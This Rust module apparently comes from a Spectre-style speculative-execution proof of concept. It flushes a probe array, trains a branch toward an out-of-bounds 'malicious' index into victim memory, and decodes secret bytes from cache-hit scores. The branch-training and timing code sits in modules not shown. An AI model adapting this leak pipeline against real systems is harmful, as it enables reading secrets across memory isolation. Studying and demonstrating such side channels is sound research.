pub mod config;
pub use config::*;

use log::debug;

use crate::machine::Machine;
use crate::probe::ProbeArray;
use crate::receiver::receive;
use crate::stats::{best_results, Candidate, HitCounterTable};
use crate::trainer::train_and_leak;
use crate::victim::VictimMemory;

/// How far the best candidate stands out from the runner-up.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Confidence {
    /// The best score is at least twice the second-best score.
    High,
    Low,
}
impl Confidence {
    pub fn classify(best: Candidate, second: Candidate) -> Self {
        if best.score as u64 >= 2 * second.score as u64 {
            Self::High
        } else {
            Self::Low
        }
    }

    pub fn is_high(&self) -> bool { matches!(self, Self::High) }
}

/// The outcome of decoding one byte.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DecodeResult {
    /// Offset of the decoded byte within the secret.
    pub target_offset: usize,
    /// The out-of-bounds index that aliases the secret byte.
    pub malicious_index: usize,
    pub best: Candidate,
    pub second: Candidate,
    pub confidence: Confidence,
    /// Mispredicted branches counted during all training windows, when the
    /// machine can count them.
    pub mispredicts: Option<u64>,
}
impl DecodeResult {
    pub fn value(&self) -> u8 { self.best.value }
}

impl std::fmt::Display for DecodeResult {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let printable = |v: u8| if (0x20..0x7f).contains(&v) { v as char } else { '?' };
        let status = match self.confidence {
            Confidence::High => "Success",
            Confidence::Low => "Unclear",
        };
        write!(f, "{}: 0x{:02X}='{}' score={}",
            status, self.best.value, printable(self.best.value), self.best.score)?;
        if self.second.score > 0 {
            write!(f, " (second best: 0x{:02X} score={})",
                self.second.value, self.second.score)?;
        }
        Ok(())
    }
}

/// Decodes secret bytes through the probe array.
///
/// Created by [SessionConfig::emit]. The probe array and victim memory are
/// borrowed for the lifetime of the session; the machine is owned.
pub struct Session<'a, M: Machine> {
    cfg: SessionConfig,
    machine: M,
    probe: &'a ProbeArray,
    victim: &'a VictimMemory,
}

impl<'a, M: Machine> Session<'a, M> {
    fn new(
        cfg: SessionConfig,
        machine: M,
        probe: &'a ProbeArray,
        victim: &'a VictimMemory,
    ) -> Self {
        Self { cfg, machine, probe, victim }
    }

    pub fn config(&self) -> &SessionConfig { &self.cfg }
    pub fn machine(&self) -> &M { &self.machine }
    pub fn probe(&self) -> &'a ProbeArray { self.probe }
    pub fn victim(&self) -> &'a VictimMemory { self.victim }

    /// Evict every probe partition, then wait for the evictions to finish.
    pub fn reset_cache(&mut self) {
        for partition in 0..=u8::MAX {
            self.machine.flush(self.probe, partition);
        }
        self.machine.fence();
    }

    /// Run every trial for one secret offset, returning the raw hit counts
    /// and the number of mispredicted branches (if counted).
    fn collect(&mut self, target_offset: usize) -> (HitCounterTable, Option<u64>) {
        let malicious = self.victim.malicious_index(target_offset);
        let array_size = self.victim.array_size();
        let schedule = self.cfg.schedule();
        let mut table = HitCounterTable::new();

        // Discard anything counted before this byte.
        self.machine.take_mispredicts();

        for tries in (1..=self.cfg.trials).rev() {
            self.reset_cache();

            self.machine.start_mispredict_window();
            train_and_leak(&mut self.machine, self.victim, self.probe,
                &schedule, tries % array_size, malicious);
            self.machine.stop_mispredict_window();

            receive(&mut self.machine, self.probe, self.cfg.threshold,
                self.cfg.probe_order, &mut table);
        }
        let mispredicts = self.machine.take_mispredicts();
        (table, mispredicts)
    }

    /// Run every trial for one secret offset and return the raw hit counts.
    pub fn counts_for(&mut self, target_offset: usize) -> HitCounterTable {
        self.collect(target_offset).0
    }

    /// Recover the secret byte at `target_offset`.
    ///
    /// Always returns the best candidate; a weak signal shows up as
    /// [`Confidence::Low`].
    pub fn decode_byte(&mut self, target_offset: usize) -> DecodeResult {
        let (table, mispredicts) = self.collect(target_offset);
        let (best, second) = best_results(&table);
        let res = DecodeResult {
            target_offset,
            malicious_index: self.victim.malicious_index(target_offset),
            best,
            second,
            confidence: Confidence::classify(best, second),
            mispredicts,
        };
        debug!("offset {}: {:?}", target_offset, table);
        res
    }

    /// Decode `len` consecutive bytes starting at `offset`.
    pub fn decode_range(&mut self, offset: usize, len: usize) -> Vec<DecodeResult> {
        (offset..offset + len).map(|off| self.decode_byte(off)).collect()
    }
}
